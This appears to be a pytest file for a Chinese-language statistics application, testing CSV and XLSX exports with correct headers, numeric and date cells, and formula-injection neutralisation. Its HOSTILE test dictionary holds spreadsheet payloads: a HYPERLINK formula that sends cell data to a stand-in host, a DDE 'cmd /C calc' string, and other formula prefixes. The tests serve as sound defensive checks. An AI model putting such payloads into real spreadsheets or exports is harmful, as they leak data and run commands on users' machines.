"""CSV and XLSX exports of statistics and lists: Chinese headers, real number and date cells."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest

from tests.conftest import City
from tests.integration.stats_city import build_stats_city

YEAR = "from=2025-01-01&to=2025-12-31"


@pytest.fixture
async def stats_city(city: City) -> City:
    await build_stats_city(city)
    return city


async def test_organisation_statistics_as_xlsx(client: Any, stats_city: City) -> None:
    from openpyxl import load_workbook

    response = await client.get(f"/api/exports/organisations?format=xlsx&{YEAR}", headers=stats_city.auth("evaluator"))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["单位", "应履行数", "按期履行数"]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)}
    city = rows["佛山市"]
    assert city["应履行数"] == 10
    assert city["承诺金额（元）"] == 8_800_000
    assert city["按期履行率"] == pytest.approx(0.3)
    assert city["诚信得分"] == pytest.approx(58.5)
    assert city["等级"] == "D"
    money = ws.cell(row=2, column=header.index("承诺金额（元）") + 1)
    assert isinstance(money.value, int | float)
    assert money.number_format == "#,##0.00"


async def test_failures_as_xlsx_have_date_cells(client: Any, stats_city: City) -> None:
    from openpyxl import load_workbook

    response = await client.get("/api/exports/failures?format=xlsx", headers=stats_city.auth("admin"))
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    assert "发现日期" in header
    cell = ws.cell(row=2, column=header.index("发现日期") + 1)
    assert isinstance(cell.value, datetime)
    assert ws.max_row == 1 + 6


async def test_every_dataset_as_csv(client: Any, stats_city: City) -> None:
    expected_rows = {
        "summary": 1,
        "organisations": 7,
        "kinds": 3,
        "categories": 5,
        "trend": 12,
        "ranking": 5,
        "obligations": 15,
        "failures": 6,
    }
    for dataset, count in expected_rows.items():
        response = await client.get(f"/api/exports/{dataset}?format=csv&{YEAR}", headers=stats_city.auth("finance"))
        assert response.status_code == 200, (dataset, response.text)
        assert response.headers["content-type"].startswith("text/csv")
        text = response.content.decode("utf-8")
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text[1:])))
        assert len(rows) == 1 + count, dataset
    ranking = list(
        csv.reader(
            io.StringIO(
                (
                    await client.get(
                        f"/api/exports/ranking?format=csv&{YEAR}&organisation_kind=department",
                        headers=stats_city.auth("finance"),
                    )
                ).text[1:]
            )
        )
    )
    assert ranking[0][:2] == ["排名", "单位"]
    assert ranking[1][:2] == ["1", "南海区发展改革局"]


async def test_unknown_dataset_is_a_client_error(client: Any, stats_city: City) -> None:
    response = await client.get("/api/exports/nothing?format=csv", headers=stats_city.auth("admin"))
    assert response.status_code in (400, 404, 422)


HOSTILE = {
    '=HYPERLINK("http://x.example/?"&A1,"点击")': '\'=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "甲方应于2025年6月30日前支付": "甲方应于2025年6月30日前支付",  # ordinary text is unchanged
}


async def _hostile_obligations(stats_city: City) -> dict[int, str]:
    """Obligations whose quote begins like a formula; the first also gets a negative amount."""
    from decimal import Decimal

    from app.models import Obligation

    ids = list(await Obligation.all().order_by("id").values_list("id", flat=True))
    quotes = dict(zip(ids, HOSTILE, strict=False))
    for oid, quote in quotes.items():
        await Obligation.filter(id=oid).update(quote=quote, obligor_name=quote)
    await Obligation.filter(id=ids[0]).update(amount=Decimal("-5000.00"))
    return quotes


async def test_csv_export_neutralises_formulas_but_not_negative_numbers(client: Any, stats_city: City) -> None:
    quotes = await _hostile_obligations(stats_city)
    response = await client.get("/api/exports/obligations?format=csv", headers=stats_city.auth("admin"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:], newline="")))
    header = rows[0]
    by_id = {int(r[0]): dict(zip(header, r, strict=True)) for r in rows[1:]}
    for oid, quote in quotes.items():
        assert by_id[oid]["义务内容"] == HOSTILE[quote], quote
        assert by_id[oid]["义务人"] == HOSTILE[quote], quote
    first = min(quotes)
    assert by_id[first]["金额（元）"] == "-5000.00"  # a number, not text: no apostrophe


async def test_xlsx_export_neutralises_formulas_but_not_negative_numbers(client: Any, stats_city: City) -> None:
    from openpyxl import load_workbook

    quotes = await _hostile_obligations(stats_city)
    response = await client.get("/api/exports/obligations?format=xlsx", headers=stats_city.auth("admin"))
    ws = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in ws[1]]
    column = header.index("义务内容") + 1
    cells = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)}
    for oid, quote in quotes.items():
        assert cells[oid].data_type == "s", quote  # a string cell, never a formula
        assert cells[oid].value == HOSTILE[quote], quote
    first_row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value == min(quotes))
    amount = ws.cell(row=first_row, column=header.index("金额（元）") + 1)
    assert (amount.value, amount.data_type) == (-5000, "n")


async def test_failure_clauses_are_neutralised(client: Any, stats_city: City) -> None:
    from app.models import IntegrityFailure

    await IntegrityFailure.all().update(clause="=1+1")
    response = await client.get("/api/exports/failures?format=csv", headers=stats_city.auth("admin"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
    column = rows[0].index("条款原文")
    assert {r[column] for r in rows[1:]} == {"'=1+1"}
